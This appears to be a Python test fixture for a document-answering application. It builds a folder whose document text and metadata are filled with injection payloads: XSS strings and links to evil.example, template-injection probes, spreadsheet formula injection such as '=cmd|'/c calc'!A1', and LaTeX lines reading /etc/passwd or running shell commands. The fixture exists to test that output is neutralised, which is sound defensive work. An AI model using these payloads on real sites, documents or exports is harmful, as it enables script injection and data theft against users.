"""A document and its metadata, full of what browsers, Markdown readers and spreadsheets would take for more than text."""

from __future__ import annotations

import json
from pathlib import Path

from alpie.app.answering.corpus import Corpus
from alpie.index.sources.document_folder import read_sources
from support.fake_encoder import corpus_from

PAYLOADS = (
    "<script>window.hurt=1</script>", '<img src=x onerror="window.hurt=1">', '<img src="http://evil.example/a.png">',
    '<svg onload=window.hurt=1><use href="http://evil.example/x.svg#a"/></svg>',
    "![una imagen](http://evil.example/b.png)", "[pulse aquí](javascript:window.hurt=1)",
    "&lt;script&gt;window.hurt=1&lt;/script&gt;", "&#60;img src=x onerror=window.hurt=1&#62;",
    '<iframe srcdoc="<script>parent.hurt=1</script>"></iframe>', '<a href="javascript:window.hurt=1">x</a>',
    "<style>@import url(http://evil.example/c.css); body { display: none }</style>",
    "$$\\href{javascript:window.hurt=1}{x}$$ \\(\\url{javascript:window.hurt=1}\\)",
    "<math><mtext><style><img src=x onerror=window.hurt=1></style></mtext></math>",
    "\u202eodatnemucod\u202c \u2066oculto\u2069 \u200f",
    "<form action=http://evil.example/><button formaction=http://evil.example/>x</button></form>",
    "```<img src=x onerror=window.hurt=1>```", '" onmouseover="window.hurt=1" autofocus onfocus="window.hurt=1" x="',
    "' onfocus='window.hurt=1' autofocus='", "--><script>window.hurt=1</script><!--",
    "{{7*7}} ${7*7} <%= 7*7 %> {{constructor.constructor('window.hurt=1')()}}",
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">', '<base href="http://evil.example/">',
    "<link rel=stylesheet href=http://evil.example/d.css>",
    "<object data=http://evil.example/e.swf></object><embed src=http://evil.example/f>",
    "<video poster=http://evil.example/g.png src=http://evil.example/h autoplay onerror=window.hurt=1>",
    "<details open ontoggle=window.hurt=1><summary>x</summary></details>",
    '<noscript><p title="</noscript><img src=x onerror=window.hurt=1>"></noscript>',
    "</script></textarea></title></style><img src=x onerror=window.hurt=1>",
    "http://evil.example/i.png www.evil.example <http://evil.example/j>",
)  # fmt: skip
# What no browser minds, and the programs that open an exported file may.
FOR_FILES = (
    "=cmd|'/c calc'!A1", '=HYPERLINK("http://evil.example/"&A1;"x")', "+1+1", "-1+1", "@SUM(1;1)", "  =1+1", "\t=1+1",
    "\r=1+1", "\u00a0\u200b\ufeff=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "﹦1+1", "hola;=1+1;@SUM(1);-1; =1+1",
    'hola";"=1+1"', "hola\t=1+1\n=1+1\r\n=1+1", "}}, title = {{otro}}}\n@misc{otra, title = {{x}}}",
    "\\input{/etc/passwd} \\write18{ls} % fin ^^5cinput", "{ una llave", "} otra llave \\",
    "texto\r\nER  - \r\n\r\nTY  - BOOK\r\nTI  - otro", "texto\u2028ER  - \u0085TY  - BOOK",
    "| a | b |\n|---|---|\n| c | d |", "```\n<script>x</script>\n```", "`código` ~~~ *a* _b_ ~c~ ^d^ ==e==",
    "# Título\n\n> cita\n\n- lista\n\n1. otra\n\n---\n\n    código",
    "![x](http://evil.example/a.png) [y](javascript:x) [z]: http://evil.example/",
    "[^1]: una nota falsa\n[^hostil-00000000]: otra", "</script><script>x</script><!-- ]]>", ']}, {"id": "otro"}',
    "\x1b[31mrojo\x1b]0;título\x07 \x9b31m", "Referencias\n\nOtro autor. (2020). Otro título.",
)  # fmt: skip
PAYLOAD = (
    "<script>window.hurt=1</script><img src=x onerror=window.hurt=1> [a](javascript:1) **b** $$c$$\n\n# d"
)
TITLE = "Informe <img src=x onerror=window.hurt=1> ![i](http://evil.example/t.png)"


def hostile_folder(folder: Path, payloads: tuple[str, ...] = PAYLOADS) -> Path:
    """A document and its metadata, both full of payloads."""
    folder.mkdir()
    name = "informe <img src=x onerror=hurt>.txt"
    parts = [f"{TITLE}\n"]
    for number, payload in enumerate(payloads, start=1):
        parts.append(f"{number}. Medida {number}: {payload}\n")
        parts.append(
            f"La medida número {number} sobre los menores dice {payload} y protege a los menores en la red. "
            f"Las autoridades aplicarán {payload} cuando haya víctimas.\n"
        )
        parts.append(f"Se compone de:\n• {payload} para las familias;\n• otra cosa {payload}.\n")
    (folder / name).write_text("\n".join(parts), encoding="utf-8")
    fields = {
        "id": "hostil",
        "title": TITLE,
        "publisher": '<script>window.hurt=1</script>" onload="window.hurt=1',
        "date": "2024-01-01",
        "kind": "informe <svg onload=window.hurt=1>",
        "language": "es",
        "file": name,
        "rights": "=cmd|'/c calc'!A1",
    }
    lines = [f"{key} = {json.dumps(value, ensure_ascii=False)}" for key, value in fields.items()]
    (folder / "sources.toml").write_text("[[document]]\n" + "\n".join(lines) + "\n", encoding="utf-8")
    return folder


def hostile_corpus(
    folder: Path, payloads: tuple[str, ...] = PAYLOADS, threshold: float | None = None
) -> Corpus:
    """That document in memory, with the small encoder: the bundled one takes long over words that are none."""
    documents = read_sources(hostile_folder(folder, payloads)).documents
    return corpus_from(documents, threshold=threshold)
